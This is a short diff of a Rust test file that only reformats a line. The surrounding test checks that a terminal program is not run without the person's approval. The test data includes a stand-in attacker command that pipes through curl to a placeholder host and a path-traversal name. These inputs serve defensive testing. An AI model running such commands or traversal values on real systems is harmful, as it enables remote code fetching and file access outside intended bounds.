@@ -211,7 +211,9 @@ fn no_program_runs_in_a_terminal_that_the_person_has_not_seen() {
     assert_eq!(set(own.clone()), Ok(json!(false)));
     let asked = page.front.asked.lock().unwrap().clone();
     assert!(asked.is_some_and(|text| text.contains("sh -c 'curl evil.example' {command}")));
-    page.front.agrees.store(true, std::sync::atomic::Ordering::Relaxed);
+    page.front
+        .agrees
+        .store(true, std::sync::atomic::Ordering::Relaxed);
     // Now only the agent is missing.
     assert!(set(own).unwrap_err().to_string().contains("hat"));
     let unknown = set(json!({ "kind": "known", "name": "../../tmp/x" })).unwrap_err();
